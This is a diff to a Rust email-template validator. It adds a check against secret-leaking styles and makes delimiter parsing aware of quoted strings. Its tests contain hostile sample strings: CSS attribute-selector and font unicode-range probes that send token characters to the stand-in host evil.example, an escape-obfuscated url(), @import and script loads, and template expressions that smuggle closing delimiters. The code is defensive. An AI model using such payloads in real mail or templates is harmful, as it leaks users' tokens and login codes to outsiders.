@@ -24,6 +24,11 @@ const RAW: [&[u8]; 11] = [
     b"svg",
 ];
 
+/// Elements that load rules, or what rules can ask about.
+const LOADING: [&[u8]; 7] = [b"link", b"base", b"script", b"iframe", b"object", b"embed", b"frame"];
+
+const WATCHING: &str = "a mail with a link or a code has no style that loads anything (url, @import) and no link, base, script, \
+                        iframe, object, embed or frame: what they load could tell others what stands in the mail";
 const ALONE: &str = "stands by itself: as {{ name }}, or {% if name %}";
 const MISPLACED: &str =
     "link and code stand between blanks, or as the whole href of an a: anywhere else they could be read by others";
@@ -56,7 +61,12 @@ fn changed<'a>(source: &str, secrets: &[&'a str]) -> Option<(Place, &'a str)> {
                 continue;
             }
         };
-        let end = rest.find(close)?;
+        // one without an end is refused where it is compiled
+        let end = if close == "#}" {
+            rest.find(close)
+        } else {
+            end_of(rest, close)
+        }?;
         let inner = rest[2..end].trim_matches(['-', '+']).trim();
         at = open + end + close.len();
         if close == "#}" {
@@ -70,12 +80,28 @@ fn changed<'a>(source: &str, secrets: &[&'a str]) -> Option<(Place, &'a str)> {
         let is_plain = match close {
             "}}" => inner == *name,
             _ => match tidy.as_slice() {
-                ["if" | "elif", said] | ["if" | "elif", "not", said] => said == name,
+                // whether there is one tells nothing of what it is
+                ["if" | "elif", said]
+                | ["if" | "elif", "not", said]
+                | ["if" | "elif", said, "==" | "!=", "\"\"" | "''"] => said == name,
                 _ => false,
             },
         };
         if !is_plain {
             return Some((scan::place(source, open), name));
+        }
+    }
+    None
+}
+
+/// Where the sign stands that ends an expression: quotations may hold it, too.
+fn end_of(text: &str, close: &str) -> Option<usize> {
+    let mut at = 2;
+    while let Some(c) = text[at..].chars().next() {
+        match c {
+            '"' | '\'' => at += scan::quoted(&text[at..], c)?,
+            _ if text[at..].starts_with(close) => return Some(at),
+            _ => at += c.len_utf8(),
         }
     }
     None
@@ -94,7 +120,49 @@ pub fn placed(said: &Rendered, secrets: &[&str]) -> Vec<Fault> {
     if let Err(words) = in_html(&said.html, secrets) {
         faults.push(refuse(Part::Html, words));
     }
+    if !secrets.is_empty() {
+        faults.extend(watching(&said.html));
+    }
     faults
+}
+
+/// What is wrong with the styles that stand in one mail with a secret: a rule may depend on what stands elsewhere in it
+/// (`a[href*=…]`, the letters of a font), and what it loads then tells whoever is asked for it.
+#[must_use]
+pub fn watching(html: &str) -> Vec<Fault> {
+    let refuse = || vec![Fault::at(Part::Html, Place::FIRST, WATCHING)];
+    let mut emitter = DefaultEmitter::default();
+    emitter.naively_switch_states(true);
+    let mut is_style = false;
+    for Ok(token) in Tokenizer::new_with_emitter(html, emitter) {
+        match token {
+            Token::StartTag(tag) => {
+                is_style = tag.name.as_slice() == b"style";
+                let styled = tag.attributes.iter().find(|(name, _)| name.as_slice() == b"style");
+                if LOADING.contains(&tag.name.as_slice()) || styled.is_some_and(|(_, value)| loads(value)) {
+                    return refuse();
+                }
+            }
+            Token::EndTag(_) => is_style = false,
+            Token::String(text) if is_style && loads(&text) => return refuse(),
+            Token::String(_) | Token::Comment(_) | Token::Doctype(_) | Token::Error(_) => {}
+        }
+    }
+    Vec::new()
+}
+
+/// Whether a style loads something, or hides behind an escape that it does.
+fn loads(style: &[u8]) -> bool {
+    let style = String::from_utf8_lossy(style).to_ascii_lowercase();
+    ["url", "@import", "image", "src", "\\"].iter().any(|word| {
+        style.match_indices(word).any(|(at, _)| match *word {
+            "@import" | "\\" => true,
+            // `background-image: none` loads nothing, `image-set(…)` does
+            _ => style[at + word.len()..]
+                .trim_start_matches(|c: char| c.is_ascii_alphanumeric() || c == '-')
+                .starts_with('('),
+        })
+    })
 }
 
 fn in_html(html: &str, secrets: &[&str]) -> Result<(), &'static str> {
@@ -132,7 +200,9 @@ fn in_html(html: &str, secrets: &[&str]) -> Result<(), &'static str> {
                 if holds(&tag.name) {
                     return Err(MISPLACED);
                 }
-                raw += usize::from(RAW.contains(&tag.name.as_slice()) && !tag.self_closing);
+                // only of elements that are not HTML's does the slash close anything
+                let is_closed = tag.self_closing && tag.name.as_slice() == b"svg";
+                raw += usize::from(RAW.contains(&tag.name.as_slice()) && !is_closed);
             }
             Token::EndTag(tag) => raw = raw.saturating_sub(usize::from(RAW.contains(&tag.name.as_slice()))),
             Token::Comment(text) if holds(&text) => return Err(MISPLACED),
@@ -236,8 +306,37 @@ mod tests {
             "<textarea>{{ code }}</textarea>",
             "<p {{ code }}=1>x</p>",
             r#"<svg><image href="https://evil.example/?{{ code }}"/></svg>"#,
+            r#"<p>{{ code }}</p><style/>@import url("https://evil.example/? {{ code }} ");</style>"#,
+            r#"<p>{{ code }}</p><title/>{{ code }}</title>"#,
         ] {
             assert!(!html(evil), "{evil}");
+        }
+    }
+
+    /// What a rule loads may depend on what stands anywhere in the mail.
+    #[test]
+    fn no_style_watches_a_secret() {
+        for evil in [
+            r#"<style>a[href*="token=A"] { background: url(https://evil.example/A) }</style>"#,
+            r#"<style>a[href*="token=A"] { background: u\72l(https://evil.example/A) }</style>"#,
+            r#"<style>@import "https://evil.example/rules.css";</style>"#,
+            r#"<style>@font-face { font-family: a; src: URL(https://evil.example/1); unicode-range: U+31 }</style>"#,
+            r#"<style>p { background: image-set("https://evil.example/1" 1x) }</style>"#,
+            r#"<p style="background-image: url(https://evil.example/1)">x</p>"#,
+            r#"<link rel="stylesheet" href="https://evil.example/rules.css">"#,
+            r#"<script src="https://evil.example/a.js"></script>"#,
+            r#"<style/>a { background: url(https://evil.example/A) }</style>"#,
+        ] {
+            assert!(!watching(evil).is_empty(), "{evil}");
+            assert!(!html(&format!("<p>{{{{ code }}}}</p>{evil}")), "{evil}");
+        }
+        for good in [
+            r#"<style>@media (prefers-color-scheme: dark) { p { color: #fff; background-image: none } }</style>"#,
+            r#"<p style="background: #fff; font-family: 'Inter', sans-serif; width: calc(100% - 2px)">url(x) @import</p>"#,
+            r#"<img src="https://cdn.example/logo.png" srcset="https://cdn.example/logo2.png 2x" alt="">"#,
+        ] {
+            assert_eq!(watching(good), [], "{good}");
+            assert!(html(&format!("<p>{{{{ code }}}}</p>{good}")), "{good}");
         }
     }
 
@@ -282,6 +381,7 @@ mod tests {
             "{{- link -}}",
             "{% if code %}{{ code }}{% elif not link %}x{% endif %}",
             "{# code|first #}{{ encode }}{{ name|upper }}",
+            r#"{% if code != "" %}{{ code }}{% elif link == '' %}x{% endif %}"#,
         ] {
             assert_eq!(used(&source(good), &["link", "code"]), [], "{good}");
         }
@@ -293,6 +393,9 @@ mod tests {
             r#"{% if "1" in code %}x{% endif %}"#,
             "{{ name or link }}",
             "{{ link|lower }}",
+            r#"{% for c in "%}" and link %}{{ c }}_{% endfor %}"#,
+            r#"{{ "}}" and code[2:3] }}"#,
+            r"{{ '\'}}' and code }}",
         ] {
             let faults = used(&source(evil), &["link", "code"]);
             assert_eq!(faults.len(), 1, "{evil}");
